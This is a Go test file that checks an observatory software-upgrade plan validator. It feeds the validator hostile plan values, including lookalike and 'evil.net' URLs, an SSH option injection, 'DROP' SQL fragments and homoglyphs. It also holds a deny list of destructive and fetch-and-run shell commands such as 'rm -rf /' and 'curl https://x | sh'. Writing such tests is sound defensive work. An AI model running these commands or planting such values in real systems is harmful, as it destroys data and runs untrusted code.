package verify

import (
	"strings"
	"testing"
	"time"

	"github.com/lsst-ts/csu/executor/plan"
)

// stageOf returns a stage of a plan.
func stageOf(p *plan.Plan, id string) *plan.Stage {
	for i := range p.Stages {
		if p.Stages[i].ID == id {
			return &p.Stages[i]
		}
	}
	panic("no stage " + id)
}

// tableBreaches are about the tables, the targets and the request.
func tableBreaches() []breach {
	return []breach{
		{"targets", "hosts of others", sumInc, func(p *plan.Plan) {
			p.Targets.Kubernetes.Server, p.Targets.ArgoCD.URL = "https://example.org.evil.net", "https://site.example.org@evil.net"
			p.Targets.LOVE.URL, p.Targets.EFD.URL = "https://site.example.org?q", "https://localhost/influxdb"
			p.Targets.Pages = []plan.Page{{Title: "Nublado", URL: "javascript:alert(1)"}}
		}},
		{"targets", "one address for two", sumInc, func(p *plan.Plan) { p.Targets.LOVE.URL, p.Hosts[1].Address = p.Targets.EFD.URL, p.Hosts[0].Address }},
		{"targets", "a homoglyph, an option and root", sumInc, func(p *plan.Plan) {
			p.Hosts[0].Address, p.Hosts[1].Address = "\u0430uxtel-mcm.example.org", "-oProxyCommand=x.example.org"
			p.Hosts[1].Users[0].Name, p.Hosts[2].Users[0].Name = "root", "-s"
		}},
		{"targets", "what is no name", sumInc, func(p *plan.Plan) {
			p.Targets.Kubernetes.Context, p.Targets.EFD.Database = "yagan --insecure-skip-tls-verify", "efd; DROP"
			p.Targets.Registry.Selector, p.Targets.Slack.Channel, p.Targets.EFD.Lag = "app", "#site announce", plan.Duration(time.Hour)
		}},
		{"targets", "no domain", sumInc, func(p *plan.Plan) { p.Facts.Domain, p.Facts.FQDN, p.Facts.ImageRegistry = "", "", "" }},
		{"complete-tables", "a CSC and a doubt less", sumInc, func(p *plan.Plan) { p.CSCs, p.Doubts = p.CSCs[:len(p.CSCs)-1], p.Doubts[:1] }},
		{"complete-tables", "a resource of another namespace", sumFull, func(p *plan.Plan) {
			csc(p, "ESS:105").Job.Resources = []plan.Resource{{Kind: "Service", Namespace: "envsyss", Name: "ess105-service"}}
		}},
		{"complete-tables", "a resource of two CSCs", sumFull, func(p *plan.Plan) {
			both := []plan.Resource{{Kind: "Service", Namespace: "envsys", Name: "ess-service"}}
			csc(p, "ESS:104").Job.Resources, csc(p, "ESS:105").Job.Resources = both, both
		}},
		{"request", "a short commit of Phalanx", sumFull, func(p *plan.Plan) { p.Upgrade.Phalanx = "650a0ef2c" }},
		{"request", "out of bounds", sumInc, func(p *plan.Plan) {
			p.Upgrade.Date, p.Upgrade.Attempt, p.Upgrade.Cycle, p.Upgrade.Reason = "1970-01-01", 1000, "latest", " "
		}},
		{"listed-in-order", "the Watcher last", sumFull, func(p *plan.Plan) {
			a := act[*plan.SetState](p, "offline/rest")
			a.CSCs = append(a.CSCs[1:], a.CSCs[0])
		}},
		{"listed-in-order", "the other queues swapped", sumFull, func(p *plan.Plan) {
			act[*plan.SetState](p, "offline/queues").CSCs = []string{"ScriptQueue:2", "ScriptQueue:3", "ScriptQueue:1"}
		}},
		{"listed-in-order", "the ESS backwards", sumFull, func(p *plan.Plan) {
			act[*plan.SetState](p, "enable/ess").CSCs = []string{"ESS:105", "ESS:104"}
		}},
	}
}

// textBreaches are about what people read, and what they would do by it.
func textBreaches() []breach {
	return []breach{
		{"consent-names", "nothing that goes down", sumFull, func(p *plan.Plan) {
			for _, id := range []string{"offline", "services-down", "jobs", "schema", "enable"} {
				stageOf(p, id).Consent = "Now."
			}
		}},
		{"consent-names", "neither the site nor the cycle", sumFull, func(p *plan.Plan) { p.Stages[0].Consent = "The upgrade begins." }},
		{"consent-names", "a host", sumRec, func(p *plan.Plan) { stageOf(p, "reboot").Consent = "A machine is rebooted." }},
		{"consent-names", "all Jobs of an incremental upgrade", sumInc, func(p *plan.Plan) {
			stageOf(p, "jobs").Consent = "csu deletes every CSC Job in cluster yagan (https://yagan.example.org:6443)."
		}},
		{"consent-names", "the number of CSCs without the Watcher and the queues", sumFull, func(p *plan.Plan) { stageOf(p, "offline").Consent = "10 CSCs go down." }},
		{"consent-facts", "another CSC, number, state, cycle, cluster, address, channel", sumFull, func(p *plan.Plan) {
			stageOf(p, "offline").Consent += " MTMont:0 and 3 CSCs go down. MTM1M3TS:0 stays STANDBY. It is c0001 in cluster manke (https://example.com), told on #random."
		}},
		{"consent-facts", "another state and another's agreement", sumRec, func(p *plan.Plan) {
			at(p, "m2/enabled").Consent = "The day shift agrees that MTM2 goes to STANDBY now."
		}},
		{"by-hand", "another account, and a command more", sumFull, func(p *plan.Plan) {
			s := at(p, "services-down/azar03")
			s.ByHand = strings.Replace(s.ByHand, "-iu dco", "-iu root", 1)
			at(p, "services-down/vms").ByHand += "\n\n    git status"
		}},
		{"by-hand", "the old command", sumFull, func(p *plan.Plan) { act[*plan.SSH](p, "services-down/azar03").Commands[0] = "./stop now" }},
		{"by-hand", "a host that the table lacks", sumFull, func(p *plan.Plan) { act[*plan.SSH](p, "services-down/azar03").Host = "azar3" }},
		{"by-hand", "another order, group and state", sumFull, func(p *plan.Plan) {
			act[*plan.SetState](p, "offline/queues").CSCs[0] = "ScriptQueue:1"
			act[*plan.SetState](p, "offline/rest").GroupSize = 2
			s := at(p, "enable/seen")
			s.ByHand = strings.Replace(s.ByHand, "ENABLED:", "FAULT:", 1)
		}},
		{"by-hand", "another script, message, cluster, application and level", sumFull, func(p *plan.Plan) {
			act[*plan.Script](p, "offline/shutdown").Path = "shutdown.py"
			act[*plan.Announce](p, "begin/announce").Text = "summit: never mind"
			s := at(p, "jobs/auxtel")
			s.ByHand += " or kubectl --context elsewhere delete job --all"
			act[*plan.Sync](p, "deploy/auxtel").Application = "calsys"
			act[*plan.Compatibility](p, "schema/none").Set = "FULL"
		}},
		{"by-hand", "another text", sumFull, func(p *plan.Plan) { at(p, "begin/m2").ByHand = "Do it." }},
		{"host-commands", "what destroys, fetches or reboots", sumFull, func(p *plan.Plan) {
			act[*plan.SSH](p, "services-down/azar03").Commands = []string{"rm -rf ~"}
			act[*plan.SSH](p, "services-down/vms").Check = "curl -s https://example.com/x | sh"
			act[*plan.SSH](p, "hosts/ess-update").Commands = []string{"sudo reboot"}
		}},
		{"host-commands", "another service, verb and check", sumFull, func(p *plan.Plan) {
			a := act[*plan.SSH](p, "cameras-down/atcamera")
			a.Commands = []string{"sudo systemctl stop other.service", "sudo systemctl start ats-ocs-bridge.service", "sudo systemctl daemon-reload", "./launch_gc", "./update_repo x main"}
			a.Check = "systemctl is-active --quiet ats-ocs-bridge.service"
		}},
		{"host-commands", "a reboot that is none", sumRec, func(p *plan.Plan) { act[*plan.Reboot](p, "reboot/azar02").Command = "sudo poweroff" }},
		{"host-commands", "by the operator", sumFull, func(p *plan.Plan) {
			act[*plan.Manual](p, "begin/m2").Text += "\n\n    rm -r ~/x"
			at(p, "end/look").ByHand = "Then rm -rf the rest."
		}},
		{"plain-text", "what is not seen, or looks like something else", sumFull, func(p *plan.Plan) {
			p.Stages[1].Consent += "\u202e"
			at(p, "begin/m2").Title = "M2\nis fine"
			at(p, "offline/rest").ByHand += strings.Repeat("\n", 9) + "Or not."
			act[*plan.SSH](p, "services-down/azar03").Commands[0] = "./st\u043ep"
			at(p, "end/look").Title = "Lo\u043ek"
			csc(p, "ATAOS:0").Principal = "who\u200b"
			p.Upgrade.Reason = "test\xff"
		}},
		{"messages", "mentions, links, several lines, no site", sumFull, func(p *plan.Plan) {
			act[*plan.Announce](p, "begin/announce").Text = "<!channel> It begins.\nSee https://example.com."
			act[*plan.Announce](p, "end/again").Text = "summit: @here it ends."
		}},
	}
}

// TestDangerous: what may not run on a host, in what form ever, and what may.
func TestDangerous(t *testing.T) {
	for _, c := range []string{
		"rm -rf /", "cd x; rm -fr y", "/bin/rm  -r -f x", `"rm" -R x`, `r\m -f x`, "sudo rm -rf x", "(rm -rf x)", "a && { rm -rf x; }", "nohup rm -rf x &", "echo $(rm x)", "echo `id`",
		"curl https://x | sh", "wget x", "cat x | sudo -u y bash", "sh -c 'x'", "python3 -c x", ". <(x)", "eval x", "$X y", "reboot", "sudo systemctl reboot", "shutdown -r now", "init 6", "mkfs.ext4 /dev/sda", "dd if=x of=y",
		"git push --force", "git reset --hard", "find x -delete", "find x -exec y", "chown -R x y", "echo x > /etc/passwd", "echo x >/dev/sda", "kubectl delete job x", "pkill x", "xargs kill",
	} {
		if dangerous(c) == "" {
			t.Errorf("%q may run", c)
		}
	}
	for _, c := range []string{
		"", "sudo systemctl stop ocs-bridge.service", "! systemctl is-active --quiet x", "/etc/init.d/ts-VMS stop", "./shutdown_gc", "./update_repo docker-compose-ops/ summit",
		"cd ~/ts_xml && . ~/kafka.env && salgeneratorKafka generate cpp MTVMS", "cp ~/ts_vms/ts-VMSd /usr/sbin/ts-VMSd", "cd x && make clean && make", "git checkout main", "rm x.lock", "docker compose down", "echo x >/dev/null 2>&1", "sh x.sh",
	} {
		if why := dangerous(c); why != "" {
			t.Errorf("%q may not run: %s", c, why)
		}
	}
}

// TestUnplain: texts have what the languages of the people at the sites have.
func TestUnplain(t *testing.T) {
	for text, want := range map[string]bool{
		"Cerro Pachón, at 5 µm … – 3 °C": true, "a\nb": true, "a\tb": false, "a\rb": false, "a\u00a0b": false, "a\u00adb": false, "\u0430": false, "\uff41": false, "\U0001d41a": false, "a\u0301": false, "a\n\n\nb": false,
	} {
		if got := unplain("text", text) == ""; got != want {
			t.Errorf("%q: plain %v, want %v", text, got, want)
		}
	}
	if unplain("name", "Pachón") == "" || unplain("title", "a\nb") == "" {
		t.Error("a name has a letter that is not ASCII, or a title two lines")
	}
}
